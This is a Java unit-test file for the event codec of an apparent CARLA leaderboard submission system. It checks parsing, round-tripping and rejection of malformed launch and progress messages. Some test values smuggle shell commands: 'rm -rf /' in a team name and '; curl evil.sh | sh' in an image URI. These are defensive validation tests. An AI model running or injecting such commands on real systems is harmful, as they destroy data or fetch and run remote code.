package org.carla.leaderboard.domain;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Instant;
import java.util.List;
import java.util.Map;

import org.carla.leaderboard.domain.event.EventCodec;
import org.carla.leaderboard.domain.event.JobFinished;
import org.carla.leaderboard.domain.event.JobStarted;
import org.carla.leaderboard.domain.event.LaunchRequest;
import org.carla.leaderboard.domain.event.MalformedEventException;
import org.carla.leaderboard.domain.event.MalformedEventException.Reason;
import org.carla.leaderboard.domain.event.NotLaunched;
import org.carla.leaderboard.domain.event.Progress;
import org.carla.leaderboard.domain.event.SubmissionEvent;
import org.carla.leaderboard.domain.event.SubmissionIdentity;
import org.carla.leaderboard.domain.event.SubmissionRef;
import org.carla.leaderboard.domain.track.LeaderboardVersion;
import org.carla.leaderboard.domain.track.TrackSpec;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class EventCodecTests {

    static final SubmissionIdentity SUBMISSION = new SubmissionIdentity(4242, 17, 2077, 99, "Team <Rocket>; rm -rf /",
            "leaderboard-20", "SENSORS");
    static final TrackSpec TRACK = new TrackSpec("leaderboard-20", "SENSORS", "carla-leaderboard-20",
            LeaderboardVersion.V2_0, "/workspace/leaderboard/data/routes_testing.xml", null, 20, 1, 4, "g5.12xlarge", "carla:0.9.15", "lb:20",
            "pod-runtime:1", "vulkan", 172800, 4, false, null, Map.of(), null, null, 1);
    static final Instant AT = Instant.parse("2026-11-21T10:15:30Z");
    static final String DIGEST = "0123456789abcdef".repeat(4);

    @Test
    void announcementTakesNumbersOrNumericStrings() {
        var announced = EventCodec.parseAnnouncement("""
                {"challenge_pk": "17", "phase_pk": 2077, "submission_pk": " 4242 ",
                 "submitted_image_uri": "123456789012.dkr.ecr.us-west-2.amazonaws.com/team:v1",
                 "is_static_dataset_code_upload_submission": false}""");
        assertThat(announced.challengePk()).isEqualTo(17);
        assertThat(announced.phasePk()).isEqualTo(2077);
        assertThat(announced.submissionPk()).isEqualTo(4242);
        assertThat(announced.imageUri()).contains("123456789012.dkr.ecr.us-west-2.amazonaws.com/team:v1");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            not json                        | {"challenge_pk": 1,                                                | NOT_JSON      | $
            empty                           | '   '                                                              | NOT_JSON      | $
            array                           | [1,2]                                                              | WRONG_TYPE    | $
            missing submission              | {"challenge_pk": 1, "phase_pk": 2}                                 | MISSING_FIELD | submission_pk
            null phase                      | {"challenge_pk": 1, "phase_pk": null, "submission_pk": 3}          | MISSING_FIELD | phase_pk
            non-numeric pk                  | {"challenge_pk": "abc", "phase_pk": 2, "submission_pk": 3}         | WRONG_TYPE    | challenge_pk
            fractional pk                   | {"challenge_pk": 1.5, "phase_pk": 2, "submission_pk": 3}           | WRONG_TYPE    | challenge_pk
            huge pk                         | {"challenge_pk": 1, "phase_pk": 2, "submission_pk": 99999999999999999999999} | INVALID_VALUE | submission_pk
            negative pk                     | {"challenge_pk": 1, "phase_pk": -2, "submission_pk": 3}            | INVALID_VALUE | phase_pk
            image not a string              | {"challenge_pk": 1, "phase_pk": 2, "submission_pk": 3, "submitted_image_uri": 5} | WRONG_TYPE | submitted_image_uri
            """)
    void announcementRejectsWhatCannotBeRead(String name, String body, Reason reason, String field) {
        assertThatThrownBy(() -> EventCodec.parseAnnouncement(body))
                .isInstanceOfSatisfying(MalformedEventException.class, e -> {
                    assertThat(e.reason()).isEqualTo(reason);
                    assertThat(e.field()).isEqualTo(field);
                    assertThat(e.getMessage()).contains(field);
                });
    }

    @Test
    void launchRequestRoundTrips() {
        var request = LaunchRequest.of(SUBMISSION, 3, "registry.example.com:5000/team/agent:v1", true, TRACK, AT);
        String json = EventCodec.write(request);
        assertThat(json).contains("\"submission_pk\":4242", "\"image_uri\":", "\"version\":2", "\"run\":3",
                "\"requested_at\":\"2026-11-21T10:15:30Z\"");
        assertThat(EventCodec.parseLaunchRequest(json)).isEqualTo(request);
    }

    @Test
    void launchRequestCarriesTheLeaderboardVersionAndRefusesAnUnknownOne() {
        String json = EventCodec.write(LaunchRequest.of(SUBMISSION, 1, "team/agent:v1", false, TRACK, AT));
        assertThat(json).contains("\"leaderboard_version\":\"2.0\"");

        assertThatThrownBy(() -> EventCodec.parseLaunchRequest(json.replace("\"leaderboard_version\":\"2.0\"",
                "\"leaderboard_version\":\"3.0\""))).isInstanceOfSatisfying(MalformedEventException.class,
                        e -> assertThat(e.field()).as(e.getMessage()).isEqualTo("track_spec.leaderboard_version"));
    }

    @Test
    void aLaunchRequestSaysItsRunsPodsAndOneWithoutThemOrOutOfRangeIsRefusedNamingTheField() {
        String json = EventCodec.write(LaunchRequest.of(SUBMISSION, 1, "team/agent:v1", false, TRACK, AT));
        assertThat(json).contains(",\"pods\":1");

        assertThatThrownBy(() -> EventCodec.parseLaunchRequest(json.replace(",\"pods\":1", "")))
                .isInstanceOfSatisfying(MalformedEventException.class, e -> {
                    assertThat(e.reason()).as(e.getMessage()).isEqualTo(Reason.MISSING_FIELD);
                    assertThat(e.field()).isEqualTo("track_spec.pods");
                });
        assertThatThrownBy(() -> EventCodec.parseLaunchRequest(json.replace(",\"pods\":1", ",\"pods\":65")))
                .isInstanceOf(MalformedEventException.class).hasMessageContaining("1 to 64 pods");
    }

    @Test
    void aLeaderboardOneLaunchRequestWithoutItsScenariosFileIsRefused() {
        String json = EventCodec.write(LaunchRequest.of(SUBMISSION, 1, "team/agent:v1", false, TRACK, AT))
                .replace("\"leaderboard_version\":\"2.0\"", "\"leaderboard_version\":\"1.0\"");
        assertThatThrownBy(() -> EventCodec.parseLaunchRequest(json))
                .isInstanceOfSatisfying(MalformedEventException.class, e -> {
                    assertThat(e.reason()).as(e.getMessage()).isEqualTo(Reason.MISSING_FIELD);
                    assertThat(e.field()).isEqualTo("track_spec.scenarios_file");
                });
    }

    @Test
    void launchRequestRefusesAShellInTheImage() {
        String json = EventCodec.write(LaunchRequest.of(SUBMISSION, 1, "team/agent:v1", false, TRACK, AT))
                .replace("team/agent:v1", "team/agent:v1; curl evil.sh | sh");
        assertThatThrownBy(() -> EventCodec.parseLaunchRequest(json))
                .isInstanceOfSatisfying(MalformedEventException.class, e -> {
                    assertThat(e.reason()).isEqualTo(Reason.INVALID_VALUE);
                    assertThat(e.field()).isEqualTo("image_uri");
                });
    }

    @Test
    void launchRequestNamesTheMissingNestedField() {
        String json = EventCodec.write(LaunchRequest.of(SUBMISSION, 1, "team/agent:v1", false, TRACK, AT))
                .replace("\"team_name\":\"Team <Rocket>; rm -rf /\",", "");
        assertThatThrownBy(() -> EventCodec.parseLaunchRequest(json))
                .isInstanceOfSatisfying(MalformedEventException.class, e -> {
                    assertThat(e.reason()).as(e.getMessage()).isEqualTo(Reason.MISSING_FIELD);
                    assertThat(e.field()).isEqualTo("submission.team_name");
                });
    }

    @Test
    void anUnknownVersionIsRefused() {
        String json = EventCodec.write(JobStarted.of(SUBMISSION, 1, "job-1", AT, AT)).replace("\"version\":2",
                "\"version\":1");
        assertThatThrownBy(() -> EventCodec.parseSubmissionEvent(json))
                .isInstanceOfSatisfying(MalformedEventException.class,
                        e -> assertThat(e.reason()).isEqualTo(Reason.UNSUPPORTED_VERSION));
    }

    @Test
    void submissionEventsRoundTripWithTheirType() {
        List<SubmissionEvent> events = List.of(
                JobStarted.of(SUBMISSION, 2, "team-sensors-4242-r2", AT, AT),
                JobFinished.of(SUBMISSION, 2, "team-sensors-4242-r2", JobFinished.Outcome.FAILED,
                        "BackoffLimitExceeded", 4, AT, AT.plusSeconds(60),
                        List.of(new JobFinished.ContainerOutcome("agent-1", 8, 1, "Error", AT.plusSeconds(59))), AT),
                NotLaunched.of(SUBMISSION, 1, NotLaunched.Reason.NOT_ALLOWED, "SENSORS needs a qualifier", AT));
        for (SubmissionEvent event : events) {
            String json = EventCodec.write(event);
            assertThat(json).contains("\"type\":\"" + event.type() + "\"");
            assertThat(EventCodec.parseSubmissionEvent(json)).isEqualTo(event);
        }
    }

    @Test
    void aRunOfSeveralPodsSaysEachPodsTimesAndWhichPodEachContainerRanIn() {
        var event = JobFinished.of(SUBMISSION, 1, "team-sensors-4242-r1", JobFinished.Outcome.SUCCEEDED, null, 1, AT,
                AT.plusSeconds(600),
                List.of(new JobFinished.ContainerOutcome("agent-1", 0, 0, "Completed", AT.plusSeconds(500)).inPod(1)),
                List.of(new JobFinished.PodSpan(0, "team-sensors-4242-r1-0-abcde", AT, AT.plusSeconds(90)),
                        new JobFinished.PodSpan(0, "team-sensors-4242-r1-0-fghij", AT.plusSeconds(120), null),
                        new JobFinished.PodSpan(1, "team-sensors-4242-r1-1-klmno", AT, AT.plusSeconds(500))),
                AT);
        String json = EventCodec.write(event);
        assertThat(json).contains("\"pods\":[{\"index\":0,", "\"pod\":1");
        var read = (JobFinished) EventCodec.parseSubmissionEvent(json);
        assertThat(read).isEqualTo(event);
        assertThat(read.severalPods()).isTrue();
    }

    @Test
    void aJobFinishedOfALauncherFromBeforePodsIsStillRead() {
        String json = EventCodec.write(JobFinished.of(SUBMISSION, 1, "job-1", JobFinished.Outcome.SUCCEEDED, null, 1,
                AT, AT, List.of(new JobFinished.ContainerOutcome("agent-1", 0, 0, "Completed", AT)), AT))
                .replace(",\"pods\":[]", "").replace(",\"pod\":null", "");
        assertThat(json).doesNotContain("pod\"");
        var read = (JobFinished) EventCodec.parseSubmissionEvent(json);
        assertThat(read.pods()).isEmpty();
        assertThat(read.containers()).singleElement().satisfies(c -> assertThat(c.pod()).isNull());
        assertThat(read.severalPods()).isFalse();
        String noName = EventCodec.write(JobFinished.of(SUBMISSION, 1, "job-1", JobFinished.Outcome.SUCCEEDED, null, 1,
                AT, AT, List.of(), List.of(new JobFinished.PodSpan(0, "p", AT, null)), AT)).replace("\"name\":\"p\"",
                        "\"name\":\"\"");
        assertThatThrownBy(() -> EventCodec.parseSubmissionEvent(noName))
                .isInstanceOfSatisfying(MalformedEventException.class, e -> assertThat(e.field()).isEqualTo("pods[0].name"));
    }

    @Test
    void anUnknownEventTypeIsRefused() {
        String json = EventCodec.write(JobStarted.of(SUBMISSION, 1, "job-1", AT, AT)).replace("job-started",
                "job-exploded");
        assertThatThrownBy(() -> EventCodec.parseSubmissionEvent(json))
                .isInstanceOfSatisfying(MalformedEventException.class, e -> {
                    assertThat(e.reason()).isEqualTo(Reason.UNKNOWN_TYPE);
                    assertThat(e.field()).isEqualTo("type");
                });
    }

    @Test
    void everyEventSaysWhichRunItIsAbout() {
        String json = EventCodec.write(JobStarted.of(SUBMISSION, 1, "job-1", AT, AT)).replace("\"run\":1,", "");
        assertThatThrownBy(() -> EventCodec.parseSubmissionEvent(json))
                .isInstanceOfSatisfying(MalformedEventException.class, e -> assertThat(e.field()).isEqualTo("run"));
        String zero = EventCodec.write(NotLaunched.of(SUBMISSION, 1, NotLaunched.Reason.CANCELLED, "", AT))
                .replace("\"run\":1", "\"run\":0");
        assertThatThrownBy(() -> EventCodec.parseSubmissionEvent(zero))
                .isInstanceOfSatisfying(MalformedEventException.class, e -> {
                    assertThat(e.reason()).isEqualTo(Reason.INVALID_VALUE);
                    assertThat(e.field()).isEqualTo("run");
                });
    }

    @Test
    void progressRoundTripsOnItsOwnQueueAndCarriesNoTeamName() {
        var progress = Progress.of(SubmissionRef.of(SUBMISSION), 2, 7, 20, false, DIGEST, false, null, List.of(), AT);
        String json = EventCodec.write(progress);
        assertThat(json).contains("\"type\":\"progress\"", "\"run\":2", "\"team_id\":99")
                .doesNotContain("team_name", "Rocket");
        assertThat(EventCodec.parseProgress(json)).isEqualTo(progress);
        var last = Progress.of(SubmissionRef.of(SUBMISSION), 2, 20, 20, true, DIGEST, false, Progress.Ending.FINISHED,
                List.of("agent/agent1/huge.log"), AT);
        assertThat(EventCodec.parseProgress(EventCodec.write(last))).isEqualTo(last);
    }

    @Test
    void aLifecycleEventOnTheProgressQueueIsRefused() {
        String json = EventCodec.write(JobFinished.of(SUBMISSION, 1, "job-1", JobFinished.Outcome.SUCCEEDED, null, 1,
                AT, AT, List.of(), AT));
        assertThatThrownBy(() -> EventCodec.parseProgress(json))
                .isInstanceOfSatisfying(MalformedEventException.class,
                        e -> assertThat(e.reason()).isEqualTo(Reason.UNKNOWN_TYPE));
        String progress = EventCodec.write(Progress.of(SubmissionRef.of(SUBMISSION), 1, 0, 4, false, DIGEST, true, null,
                List.of(), AT));
        assertThatThrownBy(() -> EventCodec.parseSubmissionEvent(progress))
                .isInstanceOfSatisfying(MalformedEventException.class,
                        e -> assertThat(e.reason()).isEqualTo(Reason.UNKNOWN_TYPE));
    }

    @Test
    void aProgressReportNamesNoLeaderboardOutsideTheIdentifierAlphabet() {
        String json = EventCodec.write(Progress.of(SubmissionRef.of(SUBMISSION), 1, 0, 4, false, DIGEST, true, null,
                List.of(), AT)).replace("leaderboard-20", "../other");
        assertThatThrownBy(() -> EventCodec.parseProgress(json))
                .isInstanceOfSatisfying(MalformedEventException.class,
                        e -> assertThat(e.field()).isEqualTo("submission.leaderboard"));
    }

    @ParameterizedTest(name = "team name with {0}")
    @CsvSource({ "U+FFFE,\uFFFE", "U+FFFF,\uFFFF", "a lone surrogate,\uD800", "NUL,\u0000", "an emoji,\uD83D\uDE97" })
    void everyEventIsPlainAsciiSoSqsTakesAnyTeamNameEvalAiAllows(String what, String character) {
        var team = new SubmissionIdentity(4242, 17, 2077, 99, "team" + character + "name", "leaderboard-20", "SENSORS");
        String json = EventCodec.write(LaunchRequest.of(team, 1, "team/agent:v1", false, TRACK, AT));
        assertThat(json.chars()).allMatch(c -> c >= 0x20 && c < 0x7f);
        assertThat(EventCodec.parseLaunchRequest(json).submission().teamName()).isEqualTo(team.teamName());
    }

    @Test
    void aWrongTypeNamesTheField() {
        String json = EventCodec.write(Progress.of(SubmissionRef.of(SUBMISSION), 1, 7, 20, false, DIGEST, false, null,
                List.of(), AT)).replace("\"routes_done\":7", "\"routes_done\":\"seven\"");
        assertThatThrownBy(() -> EventCodec.parseProgress(json))
                .isInstanceOfSatisfying(MalformedEventException.class, e -> {
                    assertThat(e.reason()).isEqualTo(Reason.WRONG_TYPE);
                    assertThat(e.field()).isEqualTo("routes_done");
                });
    }
}
